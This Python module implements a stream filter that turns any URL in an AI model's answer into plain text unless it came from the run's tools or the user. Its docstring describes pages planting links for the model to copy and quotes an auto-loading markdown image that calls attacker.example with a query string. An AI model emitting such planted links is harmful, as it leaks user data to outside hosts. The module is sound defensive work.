"""Links in the answer only to pages the tools returned or the user gave; other URLs become text.

A model can invent a URL, or copy one a page planted (`![x](https://attacker.example/?q=…)`
would even load by itself). As the answer streams, every http(s) URL the model writes is
checked: one that is in the run's source ledger (or was in the user's messages) stays as
written; any other is rewritten so no renderer makes it a link — a markdown link becomes
its text with the URL in backticks, a bare URL is put in backticks — and is flagged.
A URL may span deltas, so the text that could still be (part of) one is held back, and
only that: the rest of each delta goes out at once.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from weblens.urls import find_urls

__all__ = ["LinkGuard"]

HOLD_MAX_CHARS = 4000
"""A `[` with no link after this many characters is just a bracket: stop holding for it."""
_MD_LINK = re.compile(r"(!?)\[([^\[\]\n]{0,1000})\]\(\s*<?([^\s()<>]{1,4000})>?(?:\s+\"[^\"\n]{0,300}\")?\s*\)")
_CODE_SPAN = re.compile(r"`[^`\n]*`")
_SPACE = re.compile(r"\s")
_URL_STARTS = ("https://", "http://", "www.")


def _may_become_url(token: str) -> bool:
    """A trailing word that holds, or may grow into, a URL (`htt`, `https://ex`, `www`), or that
    may open one (`<` of an autolink, `!` of an image, a backtick that would make it code)."""
    lowered = token.lower()
    if "://" in lowered or "www." in lowered or lowered.endswith(("<", "!", "`")):
        return True
    return any(lowered.endswith(start[:n]) for start in _URL_STARTS for n in range(1, len(start)))


def _open_link(text: str) -> int:
    """Where a markdown link that has not ended yet starts (its `[` or `![`), or -1."""
    at = text.rfind("[")
    while at >= 0:
        rest = text[at:]
        if len(rest) > HOLD_MAX_CHARS:
            return -1
        close = rest.find("]")
        if close < 0 or close == len(rest) - 1:  # `[text` or `[text]`: a `(` may follow
            return at - 1 if at and text[at - 1] == "!" else at
        if rest[close + 1] == "(" and ")" not in rest[close + 1 :]:
            return at - 1 if at and text[at - 1] == "!" else at
        at = text.rfind("[", 0, at)
    return -1


class LinkGuard:
    """Rewrites the URLs `allowed` refuses, in streamed text; `flagged` lists them."""

    def __init__(self, allowed: Callable[[str], bool]) -> None:
        self.allowed = allowed
        self.flagged: list[str] = []
        self._pending = ""
        self._in_code = False
        """The text shown so far ends inside a code span (an odd number of backticks)."""

    def feed(self, text: str) -> str:
        """The part of the text so far that can be shown now, rewritten."""
        buffer = self._pending + text
        cut = len(buffer)
        space = max((m.end() for m in _SPACE.finditer(buffer, max(0, len(buffer) - HOLD_MAX_CHARS))), default=0)
        if _may_become_url(buffer[space:]):
            cut = space
        link = _open_link(buffer)
        if link >= 0:
            cut = min(cut, link)
        for whole in _MD_LINK.finditer(buffer, max(0, cut - HOLD_MAX_CHARS)):  # never split a link
            if whole.start() < cut < whole.end():
                cut = whole.start()
        self._pending = buffer[cut:]
        return self.rewrite(buffer[:cut])

    def flush(self) -> str:
        """Everything held back, rewritten (the text has ended)."""
        rest, self._pending = self._pending, ""
        return self.rewrite(rest)

    def _flag(self, url: str) -> None:
        if url not in self.flagged:
            self.flagged.append(url)

    def rewrite(self, text: str) -> str:
        """`text` with each URL `allowed` refuses made plain text (see the module docstring)."""
        in_code = self._in_code
        self._in_code = (text.count("`") % 2 == 1) != in_code
        if "://" not in text and "www." not in text.lower():
            return text
        if in_code:  # the code span the earlier text opened goes on up to the first backtick
            end = text.find("`") + 1 or len(text)
            return text[:end] + self._rewrite(text[end:])
        return self._rewrite(text)

    def _rewrite(self, text: str) -> str:
        out: list[str] = []
        last = 0
        for match in _MD_LINK.finditer(text):
            url = match.group(3)
            if self.allowed(url):
                out.append(self._bare(text[last : match.start()]))
                out.append(match.group())
            else:
                self._flag(url)
                out.append(self._bare(text[last : match.start()]))
                words = match.group(2).strip()
                out.append(f"{words} (`{url}`)" if words and words != url else f"`{url}`")
            last = match.end()
        out.append(self._bare(text[last:]))
        return "".join(out)

    def _bare(self, text: str) -> str:
        """Bare URLs (and `www.` names, which markdown links too) outside code spans, in backticks."""
        if "://" not in text and "www." not in text.lower():
            return text
        code = [(m.start(), m.end()) for m in _CODE_SPAN.finditer(text)]
        out: list[str] = []
        last = 0
        for found in find_urls(text, bare=True):
            written = text[found.start : found.end]
            if found.bare and not written.lower().startswith("www."):
                continue  # `example.com` is not made a link by markdown
            if any(start <= found.start < end for start, end in code) or self.allowed(found.url):
                continue
            self._flag(written)
            start, end = found.start, found.end
            if start and text[start - 1] == "<" and text[end : end + 1] == ">":  # an autolink <https://…>
                start, end = start - 1, end + 1
            out.append(text[last:start])
            out.append(f"`{written}`")
            last = end
        out.append(text[last:])
        return "".join(out)
